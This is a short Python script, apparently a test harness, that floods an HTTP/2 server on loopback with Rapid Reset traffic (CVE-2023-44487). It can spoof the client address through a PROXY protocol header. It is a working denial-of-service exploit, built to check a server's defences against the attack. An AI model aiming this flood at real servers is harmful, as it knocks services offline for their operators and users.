#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Opens streams and resets them in the same breath (CVE-2023-44487), on one connection to 127.0.0.1:PORT at a time and as
fast as it goes, until it is terminated. Where the connection is ended for it, it begins another one AGAIN_MS later.
With an ADDRESS, each connection begins with a PROXY protocol header that names it as the client's: loopback is never banned.
Prints how many streams it reset and how many connections that took.

    rapid_reset.py PORT AGAIN_MS [ADDRESS]
"""

import signal
import socket
import sys
import time

PAIRS = 20000
# GET http /, with an :authority of one letter.
HEAD = b"\x82\x86\x84\x01\x01a"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def main() -> None:
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    storm = b"".join(frame(1, 5, 2 * n + 1, HEAD) + frame(3, 0, 2 * n + 1, b"\0\0\0\x08") for n in range(PAIRS))
    port, again_s = int(sys.argv[1]), int(sys.argv[2]) / 1000
    header = f"PROXY TCP4 {sys.argv[3]} 127.0.0.1 1000 {port}\r\n".encode() if len(sys.argv) > 3 else b""
    preface = header + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    sent = connections = 0
    try:
        while True:
            connections += 1
            with socket.create_connection(("127.0.0.1", port)) as connection:
                connection.settimeout(5)
                try:
                    connection.sendall(preface)
                    for at in range(0, len(storm), 65536):
                        connection.sendall(storm[at : at + 65536])
                        sent += 65536 * PAIRS // len(storm)
                except OSError:
                    pass
            time.sleep(again_s)
    finally:
        print(sent, connections, flush=True)


main()
